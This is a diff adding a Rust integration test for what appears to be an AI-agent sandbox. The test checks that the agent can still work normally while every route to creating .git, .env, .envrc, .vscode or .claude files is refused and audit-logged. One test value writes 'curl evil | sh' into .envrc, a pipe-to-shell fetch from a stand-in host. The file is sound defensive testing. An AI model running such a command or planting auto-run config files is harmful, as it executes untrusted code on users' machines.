@@ -310,3 +310,82 @@ t("read_gitfile", lambda: open(W + "/.git").read().strip())
     let st = run(Command::new("git").args(["-c", "safe.directory=*", "-C"]).arg(&ws).arg("status"));
     assert!(!PathBuf::from(format!("{}.fsmonitor", mark.display())).exists(), "the agent's fsmonitor ran on the host: {}", st.stderr);
 }
+
+/// A fresh workspace: no `.git`, no `.envrc`, no `.vscode`, no denied `.env` — names the
+/// policy protects but that do not exist at launch. The agent works normally (lists, creates,
+/// renames, removes, builds nested trees) while every way of making a protected name fails:
+/// directly, through a symlink, by rename, by hard link, by `mkdir -p`, and `git init`.
+/// Also the deny variant of the issue: `deny = ["${WORKSPACE}/.git"]` on a fresh directory
+/// must not lock its parent. Each refusal is an audit record.
+#[test]
+fn names_absent_at_launch_stay_absent_and_the_directory_stays_usable() {
+    if !ready() {
+        return;
+    }
+    let lab = Lab::new();
+    let ws = lab.agent_dir("fresh");
+    let p = lab.path("fresh.toml");
+    std::fs::write(
+        &p,
+        "version = 1\n[agent]\nname = \"fresh\"\n[parameters]\nWORKSPACE = \"checkout\"\n\
+         [filesystem]\nread = [\"/usr\", \"/etc/gitconfig\"]\nwrite = [\"${WORKSPACE}\"]\ndeny = [\"${WORKSPACE}/.git\", \"${WORKSPACE}/.env\"]\n\
+         [exec]\nallow = [\"/usr/bin/git\", \"/usr/lib/git-core\", \"/usr/bin/python3\", \"/usr/bin/dash\"]\n\
+         [resources]\nmemory = \"1GiB\"\npids = 128\nwall_time = \"1m\"\n",
+    )
+    .unwrap();
+    let bundle = lab.build(&p, "bundle");
+    let log = lab.path("audit.log");
+    let body = r##"
+os.chdir(W)
+t("ls", lambda: sorted(os.listdir(".")))
+t("create", lambda: write("notes.txt", "x"))
+t("append", lambda: write("notes.txt", "y", "a"))
+t("mkdir_p", lambda: os.makedirs("build/out/deep"))
+t("nested_file", lambda: write("build/out/deep/a.o", "x"))
+t("rename", lambda: os.rename("notes.txt", "NOTES.md"))
+t("rename_dir", lambda: os.rename("build", "target"))
+t("unlink", lambda: os.unlink("NOTES.md"))
+t("symlink_ok", lambda: os.symlink("target", "t"))
+t("tmpfile", lambda: write("/tmp/scratch", "x"))
+# Every way to make a protected name.
+t("mkdir_git", lambda: os.mkdir(".git"))
+t("git_init", lambda: subprocess.run(["git", "init", "-q", "."], check=True, capture_output=True))
+t("create_env", lambda: write(".env", "TOKEN=x"))
+t("create_envrc", lambda: write(".envrc", "curl evil | sh"))
+t("mkdir_vscode", lambda: os.makedirs(".vscode"))
+t("mkdir_claude_commands", lambda: os.makedirs(".claude/commands"))
+t("rename_onto_envrc", lambda: (write("x", "y"), os.rename("x", ".envrc")))
+t("rename_dir_onto_git", lambda: os.rename("target", ".git"))
+t("link_onto_envrc", lambda: (write("y", "z"), os.link("y", ".envrc")))
+t("symlink_named_envrc", lambda: os.symlink("/etc/passwd", ".envrc"))
+t("create_through_symlink", lambda: (os.symlink(".envrc", "lnk"), write("lnk", "x")))
+t("create_through_dotdot", lambda: write("target/../.envrc", "x"))
+t("openat_dirfd", lambda: os.close(os.open(".envrc", os.O_CREAT | os.O_WRONLY, 0o644, dir_fd=os.open(".", os.O_RDONLY))))
+t("mknod_fifo", lambda: os.mkfifo(".envrc"))
+t("none_appeared", lambda: [n for n in [".git", ".env", ".envrc", ".vscode", ".claude"] if os.path.lexists(n)])
+"##;
+    let script = format!("{PRELUDE}\nW = sys.argv[1]\n{body}\ndone()\n");
+    let w = ws.display().to_string();
+    let r = lab.exec(&bundle, &[("WORKSPACE", ws.as_path())], &log, &["/usr/bin/python3", "-c", &script, &w]);
+    assert_eq!(r.code, 0, "{}{}", r.stdout, r.stderr);
+    let v: Value = serde_json::from_str(r.stdout.lines().last().unwrap_or("")).unwrap();
+    eprintln!("outcomes: {}", serde_json::to_string_pretty(&v).unwrap());
+    for k in ["ls", "create", "append", "mkdir_p", "nested_file", "rename", "rename_dir", "unlink", "symlink_ok", "tmpfile"] {
+        assert!(v[k].as_str().unwrap().starts_with("ok"), "{k}: the workspace must stay usable: {}", v[k]);
+    }
+    for k in [
+        "mkdir_git", "git_init", "create_env", "create_envrc", "mkdir_vscode", "mkdir_claude_commands", "rename_onto_envrc",
+        "rename_dir_onto_git", "link_onto_envrc", "symlink_named_envrc", "create_through_symlink", "create_through_dotdot", "openat_dirfd",
+        "mknod_fifo",
+    ] {
+        refused(&v, k);
+    }
+    assert_eq!(v["none_appeared"], "ok []");
+    for n in [".git", ".env", ".envrc", ".vscode", ".claude"] {
+        assert!(std::fs::symlink_metadata(ws.join(n)).is_err(), "{n} exists on the host");
+    }
+    assert!(ws.join("target/out/deep/a.o").exists(), "the agent's work reached the host");
+    let events = audit_events(&log);
+    let refused_files: Vec<&Value> = events.iter().filter(|e| e["kind"] == "decision" && e.to_string().contains(".envrc")).collect();
+    assert!(!refused_files.is_empty(), "refusals are recorded: {events:?}");
+}
